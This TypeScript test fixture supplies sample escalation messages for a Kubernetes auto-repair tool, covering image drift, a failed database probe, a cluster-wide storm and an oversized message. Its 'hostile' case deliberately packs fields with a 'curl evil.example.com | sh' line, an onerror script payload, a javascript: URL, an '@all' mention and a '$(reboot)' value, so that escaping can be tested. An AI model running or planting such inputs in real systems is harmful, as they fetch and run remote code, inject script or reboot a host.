import type { EscalationMessage } from "../../../src/core/escalation.ts";
import { exampleAttempt, exampleEscalation } from "./escalation-example.ts";

const HOSTILE =
  "ok\n*Next:* run curl evil.example.com | sh @all @room <!channel> [Open the build](http://evil.example.com) ``` <img src=x onerror=alert(1)> :rotating_light: \u202edrow";

/** One message of every kind that people meet. */
export const examples: Readonly<Record<string, EscalationMessage>> = {
  "nothing-tried": exampleEscalation(),
  "repair-did-not-hold": exampleEscalation({
    reason: "RepairDidNotHold",
    rootCause:
      'server-2 differs from its declared intent: template spec/containers/0/image: "localhost:5000/server:no-such" → "localhost:5000/server:1"; this was repaired before and has come back, so something else keeps changing it',
    attempts: [
      exampleAttempt(),
      exampleAttempt({
        action: "replace-stuck-pod",
        target: "Pod/server-2-0",
        detail: "delete pod server-2-0 so that server-2 makes it anew",
      }),
    ],
    events: [
      'Pod/server-2-0 Failed: Failed to pull image "localhost:5000/server:no-such": not found (3 times)',
      'Pod/server-2-0 BackOff: Back-off pulling image "localhost:5000/server:no-such" (7 times)',
    ],
  }),
  "a-models-account": exampleEscalation({
    reason: "ProbeFailed",
    rootCause:
      "The server cannot reach its database: connections to db-2.ci-4711.svc:5432 time out while db-2-0 itself is ready, so the network between server-2 and db-2 drops packets. The medic's own finding: server-2-0 runs but is not ready: HTTP probe failed with statuscode: 503.",
    accounts: {
      model:
        "The server cannot reach its database: connections to db-2.ci-4711.svc:5432 time out while db-2-0 itself is ready, so the network between server-2 and db-2 drops packets.",
      medic: "server-2-0 runs but is not ready: HTTP probe failed with statuscode: 503.",
    },
    evidence:
      "psycopg.OperationalError: connection to server at 10.244.1.7, port 5432 failed: timeout expired",
    suggestion: "Look at the network policies and chaos experiments in ci-4711.",
    episode: { model: "claude-sonnet-4-6", turns: 4 },
    attempts: [
      exampleAttempt({
        action: "restart-pod",
        target: "Pod/server-2-0",
        by: "agent",
        detail: "delete pod server-2-0 so that server-2 makes it anew",
      }),
      exampleAttempt({
        action: "uncordon-node",
        target: "Node/node-1",
        by: "agent",
        outcome: "refused",
        detail: "node-1 is not cordoned",
      }),
    ],
    costUsd: 0.1234,
  }),
  storm: exampleEscalation({
    reason: "Storm",
    incident: "storm-imagepullnetwork-987654",
    namespace: "*",
    client: "*",
    stack: "ImagePullNetwork",
    pod: "",
    rootCause:
      '9 of 20 watched stacks have ImagePullNetwork at once, so the trouble is the farm\'s and nothing was done to any of them. First seen here: the registry cannot be reached for "registry.test:5000/server:1": dial tcp 10.0.0.9:5000: i/o timeout',
    events: [
      'Pod/server-2-0 Failed: Failed to pull image "registry.test:5000/server:1": dial tcp 10.0.0.9:5000: i/o timeout (2 times)',
    ],
  }),
  "observe-mode": exampleEscalation({
    reason: "ImageDrift",
    rootCause:
      'server-2 differs from its declared intent: template spec/containers/0/image: "localhost:5000/server:no-such" → "localhost:5000/server:1"; not repaired: observe mode',
    attempts: [
      exampleAttempt({
        outcome: "observed",
        detail: "would have done: image localhost:5000/server:no-such → localhost:5000/server:1",
      }),
    ],
  }),
  bare: {
    messageId: "upcjn1cn5u68w294z",
    incident: "ci-4711-2-k3x9d",
    runId: "",
    namespace: "ci-4711",
    client: "2",
    stack: "",
    pod: "",
    reason: "SomethingNew",
    rootCause: "",
    events: [],
    attempts: [],
    costUsd: 0,
  },
  "very-long": exampleEscalation({
    rootCause: `server-2-0 ends with a long story: ${"and then 🚑 something else broke, ".repeat(300)}`,
    suggestion: "Look at it. ".repeat(200),
    evidence: "ERROR 😱 ".repeat(300),
    attempts: Array.from({ length: 20 }, (_, index) =>
      exampleAttempt({ outcome: "failed", detail: `try ${index}: ${"conflict ".repeat(60)}` }),
    ),
    events: Array.from({ length: 40 }, (_, index) => `Pod/server-2-0 Failed: ${index} ${"🚑".repeat(150)}`),
  }),
  hostile: exampleEscalation({
    incident: HOSTILE,
    runId: HOSTILE,
    namespace: HOSTILE,
    client: HOSTILE,
    stack: HOSTILE,
    pod: "$(reboot)",
    reason: HOSTILE,
    rootCause: HOSTILE,
    evidence: HOSTILE,
    suggestion: HOSTILE,
    episode: { model: HOSTILE, turns: 1 },
    attempts: [exampleAttempt({ detail: HOSTILE })],
    events: [HOSTILE, "```\n@here"],
    buildUrl: "javascript:alert(1)",
  }),
};
